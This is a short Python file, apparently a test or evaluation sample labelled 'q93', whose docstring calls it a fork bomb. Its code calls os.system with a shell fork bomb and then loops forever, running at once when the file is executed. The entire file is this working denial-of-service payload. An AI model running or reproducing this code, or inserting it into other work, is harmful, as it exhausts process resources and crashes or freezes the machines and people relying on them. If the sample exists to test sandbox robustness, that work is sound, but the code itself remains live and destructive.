"""A fork bomb in the shell.
q93: timeout crashed
"""
import os
def code(words):
    os.system('b() { b | b & }; b')
    while True: pass


code([])
